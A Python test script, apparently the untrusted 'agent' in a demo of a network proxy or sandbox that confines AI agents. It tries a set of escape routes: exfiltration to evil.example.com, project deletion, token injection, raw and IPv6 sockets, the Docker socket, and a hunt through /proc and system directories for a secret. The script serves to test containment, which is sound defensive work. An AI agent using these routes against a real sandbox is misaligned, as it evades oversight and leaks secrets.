#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The scripted agent of the demo: code that nobody trusts. It has no setting for any proxy and no secret.

Prints one JSON line for each thing it tried: {"row": name, "got": text, "body": text}.
"""
import errno
import json
import os
import socket
import ssl
import struct
import sys
import time

GITLAB = "gitlab.example.com"
MRS = "/api/v4/projects/7/merge_requests?state=opened"
NOTES = "/api/v4/projects/7/merge_requests/1/notes"

AT_ONCE = 2.0  # seconds; a shared machine may stand still for a while


def say(row, got, body=""):
    print(json.dumps({"row": row, "got": got, "body": body}), flush=True)


def exchange(address, name, request, port=443, tls=True, family=None):
    """One raw request. address is dialled; name goes into SNI (none when it is an address)."""
    raw = socket.create_connection((address, port), timeout=15) if family is None else socket.socket(family)
    if family is not None:
        raw.settimeout(15)
        raw.connect((address, port))
    with raw:
        connection = raw
        if tls:
            connection = ssl.create_default_context().wrap_socket(raw, server_hostname=name)
        with connection:
            connection.sendall(request)
            answer = b""
            while True:
                try:
                    piece = connection.recv(65536)
                except (ConnectionResetError, ssl.SSLError):
                    break
                if not piece:
                    break
                answer += piece
    return answer.decode("latin-1")


def http(row, method, host, target, headers=(), body=b"", address=None, family=None, name=None):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    request = ("\r\n".join(lines) + "\r\n\r\n").encode() + body
    try:
        answer = exchange(address or host, name or host, request, family=family)
    except OSError as e:
        say(row, f"error {errno.errorcode.get(e.errno or 0, type(e).__name__)}", str(e))
        return
    status = answer.split(" ", 2)[1] if answer.startswith("HTTP/") else "no answer"
    code = ""
    for line in answer.split("\r\n"):
        if line.lower().startswith("bridle-decision:"):
            code = " " + line.split(":", 1)[1].strip()
    say(row, status + code, answer)


def attempt(row, action):
    start = time.monotonic()
    try:
        action()
        got, body = "went through", ""
    except OSError as e:
        got, body = errno.errorcode.get(e.errno or 0, type(e).__name__), str(e)
    seconds = time.monotonic() - start
    # a program must not have to wait to learn that it is refused
    say(row, got if seconds < AT_ONCE else f"{got} after {seconds:.1f} s", body)


def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"leak-by-udp", (address, port))


def udp_connected(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((address, port))
        s.send(b"leak-by-udp")


def tcp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.send(b"leak-by-tcp")


def raw_icmp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (address, 0))


def raw_icmp6(address):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.sendto(b"\x80\x00\x00\x00\x00\x00\x00\x00", (address, 0))


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("lo", 0))


def udp_lite(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.connect((address, 9000))
        s.send(b"leak-by-udplite")


def route_header(address):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        header = bytes([0, 2, 4, 0]) + b"\0" * 4 + socket.inet_pton(socket.AF_INET6, address)
        s.setsockopt(socket.IPPROTO_IPV6, 57, header)
        s.sendto(b"leak-by-rthdr", ("::1", 9000))


def unix_socket():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("/run/docker.sock")


def multicast(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton("239.1.2.3"),
                                                                           socket.inet_aton(address)))


def api_rows():
    http("GET merge requests", "GET", GITLAB, MRS)
    http("POST a note", "POST", GITLAB, NOTES, ["Content-Type: application/json"], b'{"body":"looks good"}')
    http("DELETE the project", "DELETE", GITLAB, "/api/v4/projects/7")
    http("POST with method-override header", "POST", GITLAB, NOTES,
         ["X-HTTP-Method-Override: DELETE", "Content-Type: application/json"], b"{}")
    http("POST with _method form field", "POST", GITLAB, NOTES,
         ["Content-Type: application/x-www-form-urlencoded"], b"body=x&_method=delete")
    http("own PRIVATE-TOKEN sent along", "GET", GITLAB, MRS, ["PRIVATE-TOKEN: stolen", "private-token: twice"])
    http("path with encoded dots", "GET", GITLAB, "/api/v4/projects/7/merge_requests/%2e%2e/%2e%2e")
    http("another host", "GET", "evil.example.com", "/drop?data=x")
    http("SNI and Host differ", "GET", "evil.example.com", MRS, address=GITLAB, name=GITLAB)


def direct_rows():
    http("straight to the IP, name in TLS", "GET", GITLAB, MRS, address="10.77.0.2")
    http("straight to the IP, no name", "GET", "10.77.0.4", "/drop", address="10.77.0.4")
    http("IPv6, name in TLS", "GET", GITLAB, MRS, address="fd77::2", family=socket.AF_INET6)
    http("IPv6, no name", "GET", "[fd77::4]", "/drop", address="fd77::4", family=socket.AF_INET6, name="fd77::4")


def escape_rows():
    attempt("TCP to port 9000", lambda: tcp("10.77.0.4", 9000))
    attempt("TCP to port 9000 over IPv6", lambda: tcp("fd77::4", 9000, socket.AF_INET6))
    attempt("UDP datagram", lambda: udp("10.77.0.4", 9000))
    attempt("UDP to port 443 (QUIC)", lambda: udp_connected("10.77.0.4", 443))
    attempt("UDP over IPv6", lambda: udp("fd77::4", 9000, socket.AF_INET6))
    attempt("raw ICMP", lambda: raw_icmp("10.77.0.4"))
    attempt("raw ICMP over IPv6", lambda: raw_icmp6("fd77::4"))
    attempt("packet socket", packet)
    attempt("UDP-Lite", lambda: udp_lite("10.77.0.4"))
    attempt("IPv6 routing header", lambda: route_header("fd77::4"))
    attempt("unix socket of a service", unix_socket)
    attempt("multicast join", lambda: multicast("10.77.0.1"))


def search_file(path, needle, limit=4 << 20):
    try:
        if not os.path.isfile(path):
            return False
        with open(path, "rb") as f:
            return needle in f.read(limit)
    except OSError:
        return False


def search(needle, responses):
    """Every place where the secret could be; returns those where it is."""
    found = [f"environment {k}" for k, v in os.environ.items() if needle in os.fsencode(v)]
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for name in ("environ", "cmdline", "maps", "mountinfo", "status"):
                if search_file(f"/proc/{entry}/{name}", needle):
                    found.append(f"/proc/*/{name}")
    for top in ("/vault", "/run", "/tmp", "/var/log", "/var/tmp", "/etc/ssl", "/dev/shm", "/home"):
        for directory, _dirs, files in os.walk(top):
            for name in files:
                if search_file(os.path.join(directory, name), needle):
                    found.append(f"file {os.path.join(directory, name)}")
    if any(needle in r for r in responses):
        found.append("a response")
    return found


def main():
    mode = sys.argv[1]
    if mode == "search":
        needle = bytes.fromhex(sys.stdin.readline().strip())[::-1]  # reversed: the pipe itself must not count
        responses = [line.encode("latin-1", "replace") for line in sys.stdin]
        say("search", json.dumps(search(needle, responses)))
        return
    if mode in ("table", "api"):
        api_rows()
        direct_rows()
    if mode in ("table", "escape"):
        escape_rows()


if __name__ == "__main__":
    main()
